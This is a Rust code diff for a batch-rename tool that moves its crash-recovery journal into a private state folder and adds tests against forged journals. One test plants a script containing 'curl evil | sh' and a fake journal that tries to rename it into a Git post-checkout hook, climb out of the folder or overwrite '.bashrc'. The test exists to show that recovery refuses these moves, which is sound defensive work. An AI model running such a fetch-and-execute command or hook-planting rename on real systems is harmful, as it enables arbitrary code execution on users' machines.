@@ -5,21 +5,23 @@
 //! to its target), so chains (`a→b, b→c`), swaps and cycles (`a→b, b→a`) and
 //! case-only renames on case-insensitive volumes need no special ordering.
 //!
-//! Before the first rename a journal (`.fusion-rename.journal`, hidden, in the
-//! root) records every item with its file id. Where each item is can always
-//! be told from the disk alone — at its source, its temporary name or its
-//! target, recognised by the file id — so the journal is written once and
-//! never updated. A failure part-way moves everything back in reverse; after
-//! a crash or power loss, [`recover_renames`] does the same on the next start
-//! (or finishes the batch, when every item had reached its target), then
-//! removes the journal.
+//! Before the first rename a journal records every item with its file id, in
+//! the device's own state folder, never in the allowed folder (see
+//! [`journal`]). Where each item is can always be told from the disk alone —
+//! at its source, its temporary name or its target, recognised by the file
+//! id — so the journal is written once and never updated. A failure part-way
+//! moves everything back in reverse; after a crash or power loss,
+//! [`recover_renames`] does the same on the next start (or finishes the
+//! batch, when every item had reached its target), then removes the journal.
+
+mod journal;
 
 use std::collections::{HashMap, HashSet};
 use std::ffi::{OsStr, OsString};
-use std::io::{self, Write as _};
+use std::io;
 use std::path::{Path, PathBuf};
 
-use cap_std::fs::{Dir, Metadata, OpenOptions};
+use cap_std::fs::{Dir, Metadata};
 use schemars::JsonSchema;
 use serde::{Deserialize, Serialize};
 
@@ -33,11 +35,10 @@ use crate::tool::{
 /// The most pairs one batch takes.
 pub const MAX_BATCH: usize = 20_000;
 
-/// The journal's name, in the root the batch runs in.
-pub const RENAME_JOURNAL: &str = ".fusion-rename.journal";
+use journal::{Journal, JournalItem, batch_pending, journal_path, remove_journal, roll_back, write_journal};
+pub use journal::{RENAME_JOURNAL, RecoveryOutcome, RenameRecovery, check_renames, recover_renames};
 
 const TEMP_PREFIX: &str = ".fusion-rename-";
-const JOURNAL_VERSION: u32 = 1;
 
 /// `rename_batch`: rename many files or folders as one approval.
 #[derive(Debug, Clone, Copy, Default)]
@@ -325,11 +326,11 @@ pub(crate) fn examine(
             ),
         );
     }
-    if root.dir().symlink_metadata(RENAME_JOURNAL).is_ok() {
+    if batch_pending(scope, root.path()) {
         problem(
             BatchProblemCode::BatchInProgress,
             None,
-            &display(Path::new(RENAME_JOURNAL)),
+            &root.path().display().to_string(),
             "another rename batch is running in this folder, or one was interrupted; wait for it, or \
              restart the device to finish or roll it back"
                 .into(),
@@ -565,31 +566,6 @@ pub(crate) enum Step {
     Crash,
 }
 
-/// The journal: written once, before the first rename.
-#[derive(Debug, Serialize, Deserialize)]
-struct Journal {
-    version: u32,
-    batch: String,
-    items: Vec<JournalItem>,
-}
-
-#[derive(Debug, Serialize, Deserialize)]
-struct JournalItem {
-    from: PathBuf,
-    to: PathBuf,
-    temp: PathBuf,
-    id: String,
-}
-
-/// Where an item of an interrupted batch is now.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-enum Place {
-    Source,
-    Temp,
-    Target,
-    Lost,
-}
-
 /// Parent folders opened once, through the root's handle.
 struct Folders<'d> {
     root: &'d Dir,
@@ -729,7 +705,8 @@ pub(crate) fn run_batch(
     let _ = getrandom::fill(&mut random);
     let batch = hex(&random);
     let journal = Journal {
-        version: JOURNAL_VERSION,
+        version: journal::JOURNAL_VERSION,
+        root: root_path.clone(),
         batch: batch.clone(),
         items: staged
             .items
@@ -743,13 +720,22 @@ pub(crate) fn run_batch(
             })
             .collect(),
     };
-    write_journal(root.dir(), &journal).map_err(|e| match e.kind() {
-        io::ErrorKind::AlreadyExists => Error::Conflict {
-            subject: root_path.join(RENAME_JOURNAL).display().to_string(),
-            detail: "another rename batch started in this folder meanwhile".into(),
-        },
-        _ => Error::io(&root_path.join(RENAME_JOURNAL), e),
-    })?;
+    // Without a state folder the batch still rolls back on failure while
+    // this process lives; only recovery after a crash needs the journal.
+    let journal_file = journal_path(cx.scope(), &root_path, &batch);
+    if let Some(path) = &journal_file {
+        write_journal(path, &journal).map_err(|e| match e.kind() {
+            io::ErrorKind::AlreadyExists => Error::Conflict {
+                subject: path.display().to_string(),
+                detail: "another rename batch with the same id started meanwhile; plan it again".into(),
+            },
+            _ => Error::io(path, e),
+        })?;
+    }
+    let forget = || match &journal_file {
+        Some(path) => remove_journal(path).map_err(|e| Error::io(path, e)),
+        None => Ok(()),
+    };
     let mut folders = Folders::new(root.dir());
     let mut step = 0;
     let mut failure = None;
@@ -792,12 +778,13 @@ pub(crate) fn run_batch(
             "not_restored": undo.stuck.iter().map(|(i, why)| serde_json::json!({
                 "index": i,
                 "from": root_path.join(&journal.items[*i].from).display().to_string(),
+                "temp": root_path.join(&journal.items[*i].temp).display().to_string(),
                 "message": why,
             })).collect::<Vec<_>>(),
         });
         let message = if undo.stuck.is_empty() {
             let _ = folders.sync();
-            let _ = remove_journal(root.dir());
+            let _ = forget();
             format!(
                 "renaming {} to {} failed ({cause}); the {} rename(s) already done were undone, so every \
                  name is as it was: close any program holding the file and plan the batch again",
@@ -806,12 +793,17 @@ pub(crate) fn run_batch(
                 undo.moved_back
             )
         } else {
+            let next = match &journal_file {
+                Some(path) => format!(
+                    "the journal {} is kept and the next start of the device retries",
+                    path.display()
+                ),
+                None => "move them back by hand (their temporary names are in the details)".into(),
+            };
             format!(
-                "renaming {} failed ({cause}) and {} item(s) could not be moved back (see details); the \
-                 journal {} is kept and the next start of the device retries",
+                "renaming {} failed ({cause}) and {} item(s) could not be moved back (see details); {next}",
                 root_path.join(&item.from).display(),
                 undo.stuck.len(),
-                root_path.join(RENAME_JOURNAL).display()
             )
         };
         return Err(Error::BatchFailed {
@@ -820,239 +812,13 @@ pub(crate) fn run_batch(
         });
     }
     folders.sync().map_err(|e| Error::io(&root_path, e))?;
-    remove_journal(root.dir()).map_err(|e| Error::io(&root_path.join(RENAME_JOURNAL), e))?;
+    forget()?;
     Ok(RenameBatchOutput {
         renamed: journal.items.len() as u64,
         unchanged: staged.unchanged,
         case_only: staged.items.iter().filter(|i| i.case_only).count() as u64,
         root: root_path.display().to_string(),
     })
-}
-
-fn write_journal(root: &Dir, journal: &Journal) -> io::Result<()> {
-    let bytes = serde_json::to_vec(journal).map_err(io::Error::other)?;
-    let mut options = OpenOptions::new();
-    options.write(true).create_new(true);
-    let mut file = root.open_with(RENAME_JOURNAL, &options)?;
-    let written = file.write_all(&bytes).and_then(|()| file.sync_all());
-    if let Err(e) = written {
-        drop(file);
-        let _ = root.remove_file(RENAME_JOURNAL);
-        return Err(e);
-    }
-    sync_dir(root)
-}
-
-fn remove_journal(root: &Dir) -> io::Result<()> {
-    root.remove_file(RENAME_JOURNAL)?;
-    sync_dir(root)
-}
-
-/// What undoing a batch achieved.
-struct Undo {
-    moved_back: usize,
-    /// Items that could not be put back, with why.
-    stuck: Vec<(usize, String)>,
-}
-
-/// Where each item is, told from the disk alone.
-fn places(root: &Dir, journal: &Journal) -> Vec<Place> {
-    let id_at = |rel: &Path| root.symlink_metadata(rel).ok().map(|md| id_of(&md));
-    let mut listings: HashMap<PathBuf, HashSet<OsString>> = HashMap::new();
-    let mut spelled = |rel: &Path| -> bool {
-        let parent = rel.parent().unwrap_or(Path::new("")).to_path_buf();
-        let names = listings.entry(parent.clone()).or_insert_with(|| {
-            let dir = if parent.as_os_str().is_empty() {
-                Path::new(".")
-            } else {
-                &parent
-            };
-            root.read_dir(dir)
-                .map(|entries| entries.filter_map(|e| e.ok().map(|e| e.file_name())).collect())
-                .unwrap_or_default()
-        });
-        rel.file_name().is_some_and(|n| names.contains(n))
-    };
-    journal
-        .items
-        .iter()
-        .map(|item| {
-            if root.symlink_metadata(&item.temp).is_ok() {
-                return Place::Temp;
-            }
-            let at_target = id_at(&item.to).as_deref() == Some(item.id.as_str());
-            let at_source = id_at(&item.from).as_deref() == Some(item.id.as_str());
-            match (at_source, at_target) {
-                // Case-only on a case-insensitive volume: both spellings answer;
-                // the folder's listing says which one is on disk.
-                (true, true) if spelled(&item.to) => Place::Target,
-                (true, _) => Place::Source,
-                (false, true) => Place::Target,
-                (false, false) => Place::Lost,
-            }
-        })
-        .collect()
-}
-
-/// Puts every item of `journal` back at its source: targets to their
-/// temporary names first (so a cycle frees its names), then temporary names
-/// to sources; each pass in reverse order.
-fn roll_back(root: &Dir, journal: &Journal) -> Undo {
-    let mut place = places(root, journal);
-    let mut folders = Folders::new(root);
-    let mut undo = Undo {
-        moved_back: 0,
-        stuck: Vec::new(),
-    };
-    for (n, item) in journal.items.iter().enumerate().rev() {
-        if place[n] == Place::Target {
-            match folders.rename(&item.to, &item.temp) {
-                Ok(()) => place[n] = Place::Temp,
-                Err(e) => undo
-                    .stuck
-                    .push((n, format!("could not move it back from its new name: {e}"))),
-            }
-        }
-    }
-    for (n, item) in journal.items.iter().enumerate().rev() {
-        match place[n] {
-            Place::Temp => match folders.rename(&item.temp, &item.from) {
-                Ok(()) => undo.moved_back += 1,
-                Err(e) => undo
-                    .stuck
-                    .push((n, format!("could not move it back from its temporary name: {e}"))),
-            },
-            Place::Lost => undo
-                .stuck
-                .push((n, "it is at none of its old, temporary or new names".into())),
-            Place::Source | Place::Target => {}
-        }
-    }
-    let _ = folders.sync();
-    undo
-}
-
-/// What [`recover_renames`] did in one allowed folder.
-#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
-pub struct RenameRecovery {
-    /// The allowed folder.
-    pub root: PathBuf,
-    /// How many renames the interrupted batch had.
-    pub items: usize,
-    /// What was done.
-    pub outcome: RecoveryOutcome,
-}
-
-/// The end an interrupted batch was brought to.
-#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
-#[serde(tag = "outcome", rename_all = "snake_case")]
-pub enum RecoveryOutcome {
-    /// Every item had reached its new name: the batch is finished.
-    Completed,
-    /// Items were moved back: every entry has its old name again.
-    RolledBack {
-        /// How many were moved back.
-        moved_back: usize,
-    },
-    /// The journal could not be read: it was written by a batch that had
-    /// not started renaming (the journal is complete before the first rename).
-    DiscardedUnstarted,
-    /// Some items could not be put back; the journal is kept.
-    Unresolved {
-        /// One line per item that is stuck.
-        stuck: Vec<String>,
-    },
-    /// The folder is read-only now, so nothing was touched; the journal is kept.
-    ReadOnly,
-}
-
-impl std::fmt::Display for RenameRecovery {
-    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        let root = self.root.display();
-        match &self.outcome {
-            RecoveryOutcome::Completed => write!(
-                f,
-                "an interrupted rename batch of {} item(s) in {root} had finished; its journal is removed",
-                self.items
-            ),
-            RecoveryOutcome::RolledBack { moved_back } => write!(
-                f,
-                "an interrupted rename batch of {} item(s) in {root} was rolled back ({moved_back} moved \
-                 back): every entry has its old name again; plan the batch again to rename",
-                self.items
-            ),
-            RecoveryOutcome::DiscardedUnstarted => write!(
-                f,
-                "an unreadable rename journal in {root} was removed; its batch had not started renaming"
-            ),
-            RecoveryOutcome::Unresolved { stuck } => write!(
-                f,
-                "an interrupted rename batch of {} item(s) in {root} could not be fully rolled back; {} item(s) \
-                 are stuck ({}); the journal {} is kept and the next start tries again",
-                self.items,
-                stuck.len(),
-                stuck.iter().take(3).cloned().collect::<Vec<_>>().join("; "),
-                self.root.join(RENAME_JOURNAL).display()
-            ),
-            RecoveryOutcome::ReadOnly => write!(
-                f,
-                "{root} holds an interrupted rename batch but is allowed read-only now; allow it read-write \
-                 once so the device can roll the batch back"
-            ),
-        }
-    }
-}
-
-/// Finishes or rolls back any rename batch a crash interrupted, in every
-/// allowed folder. Call it at start, before taking calls: the rule is
-/// "finished if every item reached its new name, otherwise rolled back", so
-/// after it a folder holds either all old names or all new ones.
-pub fn recover_renames(scope: &Scope) -> Vec<RenameRecovery> {
-    scope.roots().iter().filter_map(recover_root).collect()
-}
-
-fn recover_root(root: &Root) -> Option<RenameRecovery> {
-    let dir = root.dir();
-    let bytes = dir.read(RENAME_JOURNAL).ok()?;
-    let recovery = |items, outcome| RenameRecovery {
-        root: root.path().to_path_buf(),
-        items,
-        outcome,
-    };
-    let journal: Journal = match serde_json::from_slice(&bytes) {
-        Ok(j) => j,
-        Err(_) => {
-            if root.access() == Access::ReadOnly {
-                return Some(recovery(0, RecoveryOutcome::ReadOnly));
-            }
-            let _ = remove_journal(dir);
-            return Some(recovery(0, RecoveryOutcome::DiscardedUnstarted));
-        }
-    };
-    let items = journal.items.len();
-    if root.access() == Access::ReadOnly {
-        return Some(recovery(items, RecoveryOutcome::ReadOnly));
-    }
-    if places(dir, &journal).iter().all(|p| *p == Place::Target) {
-        let _ = remove_journal(dir);
-        return Some(recovery(items, RecoveryOutcome::Completed));
-    }
-    let undo = roll_back(dir, &journal);
-    if undo.stuck.is_empty() {
-        let _ = remove_journal(dir);
-        return Some(recovery(
-            items,
-            RecoveryOutcome::RolledBack {
-                moved_back: undo.moved_back,
-            },
-        ));
-    }
-    let stuck = undo
-        .stuck
-        .iter()
-        .map(|(n, why)| format!("{}: {why}", root.path().join(&journal.items[*n].from).display()))
-        .collect();
-    Some(recovery(items, RecoveryOutcome::Unresolved { stuck }))
 }
 
 #[cfg(test)]
@@ -1265,7 +1031,12 @@ mod tests {
                 (BatchProblemCode::WindowsName, Some(2)),
             ]
         );
+        // A journal file in the folder is anyone's: it blocks nothing.
         f.write(RENAME_JOURNAL, "{}");
+        f.plan("rename_batch", pairs(&[("e", "f")]));
+        // The device's own journal of an interrupted batch does.
+        let (_, staged) = examine(&cx, &input(&[("e", "f")]), false).unwrap();
+        run_batch(&cx, staged, &mut |_| Step::Crash).unwrap_err();
         let e = f.plan_err("rename_batch", pairs(&[("e", "f")]));
         assert_eq!(problems(&e), [(BatchProblemCode::BatchInProgress, None)]);
     }
@@ -1305,7 +1076,7 @@ mod tests {
             "outside"
         );
         assert!(!outside.path().join("c").exists());
-        assert!(!f.exists(RENAME_JOURNAL));
+        assert_eq!(f.state_files(), Vec::<PathBuf>::new(), "no journal is left");
     }
 
     #[test]
@@ -1392,7 +1163,8 @@ mod tests {
                 assert!(recover_renames(&f.scope).is_empty(), "nothing to recover");
                 continue;
             }
-            assert!(f.exists(RENAME_JOURNAL), "the journal outlives a crash");
+            assert_eq!(f.state_files().len(), 1, "the journal outlives a crash");
+            assert!(!f.exists(RENAME_JOURNAL), "and is not in the folder");
             let recovered = recover_renames(&f.scope);
             assert_eq!(recovered.len(), 1);
             assert_eq!(recovered[0].items, 5);
@@ -1412,6 +1184,40 @@ mod tests {
         }
     }
 
+    /// The journal a batch of `pairs` in `f` would have, as the device writes it.
+    fn journal_of(
+        f: &Fixture,
+        batch: &str,
+        pairs: &[(&str, &str)],
+        id_at: impl Fn(&str, &str) -> String,
+    ) -> Journal {
+        Journal {
+            version: journal::JOURNAL_VERSION,
+            root: f.root(),
+            batch: batch.into(),
+            items: pairs
+                .iter()
+                .enumerate()
+                .map(|(n, (from, to))| JournalItem {
+                    from: from.into(),
+                    to: to.into(),
+                    temp: temp_for(Path::new(from), batch, n),
+                    id: id_at(from, to),
+                })
+                .collect(),
+        }
+    }
+
+    fn id(f: &Fixture, rel: &str) -> String {
+        id_of(&f.scope.roots()[0].dir().symlink_metadata(rel).unwrap())
+    }
+
+    fn store(f: &Fixture, journal: &Journal) -> PathBuf {
+        let path = journal_path(&f.scope, &f.root(), &journal.batch).unwrap();
+        write_journal(&path, journal).unwrap();
+        path
+    }
+
     #[test]
     fn recovery_finishes_a_batch_whose_items_all_arrived() {
         let (f, input, _, new) = busy_fixture();
@@ -1419,33 +1225,156 @@ mod tests {
         let (_, staged) = examine(&cx, &input, false).unwrap();
         run_batch(&cx, staged, &mut |_| Step::Go).unwrap();
         // Crash between the last rename and removing the journal.
-        f.write(RENAME_JOURNAL, "");
-        let journal = Journal {
-            version: JOURNAL_VERSION,
-            batch: "feed".into(),
-            items: input
-                .renames
-                .iter()
-                .enumerate()
-                .map(|(n, p)| JournalItem {
-                    from: p.from.clone().into(),
-                    to: p.to.clone().into(),
-                    temp: temp_for(Path::new(&p.from), "feed", n),
-                    id: id_of(&f.scope.roots()[0].dir().symlink_metadata(&p.to).unwrap()),
-                })
-                .collect(),
-        };
-        std::fs::write(f.path(RENAME_JOURNAL), serde_json::to_vec(&journal).unwrap()).unwrap();
+        let list: Vec<(&str, &str)> = input
+            .renames
+            .iter()
+            .map(|p| (p.from.as_str(), p.to.as_str()))
+            .collect();
+        store(&f, &journal_of(&f, "00c0feed", &list, |_, to| id(&f, to)));
         let recovered = recover_renames(&f.scope);
         assert_eq!(recovered[0].outcome, RecoveryOutcome::Completed);
         assert_eq!(state(&f), new);
-        // A journal cut short by a crash while it was written: no rename had started.
-        f.write(RENAME_JOURNAL, "{\"version\":1,\"batch\":\"x\",\"it");
-        assert_eq!(
-            recover_renames(&f.scope)[0].outcome,
-            RecoveryOutcome::DiscardedUnstarted
-        );
+        assert_eq!(f.state_files(), Vec::<PathBuf>::new());
+        // A journal cut short by a crash while it was written never got its
+        // name: its batch had not started, and it is cleared away.
+        let dir = journal_path(&f.scope, &f.root(), "0badf00d").unwrap();
+        std::fs::create_dir_all(dir.parent().unwrap()).unwrap();
+        std::fs::write(
+            dir.with_extension("partial"),
+            "{\"version\":2,\"batch\":\"x\",\"it",
+        )
+        .unwrap();
+        assert_eq!(recover_renames(&f.scope), []);
+        assert_eq!(f.state_files(), Vec::<PathBuf>::new());
         assert_eq!(state(&f), new);
+    }
+
+    /// Journals written by someone other than the device, in the folder it
+    /// shares (a cloned repository, a synced folder) or in its own state
+    /// folder: none of them moves anything, each is reported, none blocks a
+    /// new batch.
+    #[cfg(unix)]
+    #[test]
+    fn planted_journals_move_nothing() {
+        let f = Fixture::new();
+        let outside = tempfile::tempdir().unwrap();
+        f.write("tools/fmt.sh", "#!/bin/sh\ncurl evil | sh\n");
+        f.write(".git/hooks/pre-commit.sample", "sample");
+        f.write(
+            ".fusion-rename-0000abcd-0",
+            "looks like the device's own temporary name",
+        );
+        f.write(".bashrc", "mine");
+        let victims = [
+            ("tools/fmt.sh", ".git/hooks/post-checkout"),
+            (".fusion-rename-0000abcd-0", ".bashrc"),
+            (".bashrc", "../../outside"),
+        ];
+        // Version 1, as earlier devices wrote it, in the folder itself.
+        let planted = serde_json::json!({
+            "version": 1,
+            "batch": "0000abcd",
+            "items": victims.iter().map(|(temp, from)| serde_json::json!({
+                "from": from, "to": "x", "temp": temp, "id": "0:0",
+            })).collect::<Vec<_>>(),
+        });
+        f.write(RENAME_JOURNAL, planted.to_string());
+        let before = f.snapshot();
+        for recovered in [check_renames(&f.scope), recover_renames(&f.scope)] {
+            assert_eq!(recovered.len(), 1, "{recovered:?}");
+            assert!(
+                matches!(&recovered[0].outcome, RecoveryOutcome::Ignored { journal, .. } if journal.ends_with(RENAME_JOURNAL)),
+                "{recovered:?}"
+            );
+            assert!(
+                recovered[0].to_string().contains("no file was moved"),
+                "{}",
+                recovered[0]
+            );
+        }
+        assert_eq!(
+            f.snapshot(),
+            before,
+            "nothing moved, the planted file is left alone"
+        );
+
+        // In the device's state folder, with the real file ids: temporary
+        // names the device would not generate, paths that climb or are
+        // absolute, another folder, a name that is not the batch's.
+        let hook_id = id(&f, "tools/fmt.sh");
+        let cases: Vec<(&str, Journal)> = vec![
+            ("temp not generated", {
+                let mut j = journal_of(&f, "0000abcd", &[(".git/hooks/post-checkout", "x")], |_, _| {
+                    hook_id.clone()
+                });
+                j.items[0].temp = "tools/fmt.sh".into();
+                j
+            }),
+            (
+                "climbs out",
+                journal_of(&f, "0000abcd", &[("../outside/x", "x")], |_, _| hook_id.clone()),
+            ),
+            (
+                "absolute",
+                journal_of(
+                    &f,
+                    "0000abcd",
+                    &[(outside.path().join("x").to_str().unwrap(), "x")],
+                    |_, _| hook_id.clone(),
+                ),
+            ),
+            ("another root", {
+                let mut j = journal_of(&f, "0000abcd", &[(".bashrc", "x")], |_, _| hook_id.clone());
+                j.root = outside.path().to_path_buf();
+                j
+            }),
+            (
+                "bad batch id",
+                journal_of(&f, "../../x", &[(".bashrc", "x")], |_, _| hook_id.clone()),
+            ),
+        ];
+        for (what, journal) in cases {
+            let path = journal_path(&f.scope, &f.root(), "0000abcd").unwrap();
+            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+            std::fs::write(&path, serde_json::to_vec(&journal).unwrap()).unwrap();
+            let recovered = recover_renames(&f.scope);
+            let ignored: Vec<_> = recovered
+                .iter()
+                .filter(
+                    |r| matches!(&r.outcome, RecoveryOutcome::Ignored { journal, .. } if *journal == path),
+                )
+                .collect();
+            assert_eq!(ignored.len(), 1, "{what}: {recovered:?}");
+            assert_eq!(f.snapshot(), before, "{what}: nothing moved");
+            assert!(path.exists(), "{what}: left alone");
+            // It never blocks a new batch.
+            f.plan("rename_batch", pairs(&[("tools/fmt.sh", "tools/fmt2.sh")]));
+            std::fs::remove_file(&path).unwrap();
+        }
+        assert!(!outside.path().join("x").exists());
+    }
+
+    /// A journal of the device's whose temporary name now holds another
+    /// file (put there after the crash) moves nothing into place.
+    #[test]
+    fn recovery_moves_only_the_entries_it_recorded() {
+        let f = Fixture::new();
+        f.write("a", "a");
+        f.write("dir/b", "b");
+        let journal = journal_of(&f, "1234abcd", &[("a", "c"), ("dir/b", "dir/d")], |from, _| {
+            format!("{}-moved", id(&f, from))
+        });
+        // Someone else's file sits at each temporary name.
+        std::fs::rename(f.path("a"), f.root().join(&journal.items[0].temp)).unwrap();
+        std::fs::rename(f.path("dir/b"), f.root().join(&journal.items[1].temp)).unwrap();
+        let before = f.snapshot();
+        store(&f, &journal);
+        let recovered = recover_renames(&f.scope);
+        assert!(
+            matches!(&recovered[0].outcome, RecoveryOutcome::Unresolved { stuck } if stuck.len() == 2),
+            "{recovered:?}"
+        );
+        assert_eq!(f.snapshot(), before);
     }
 
     #[test]
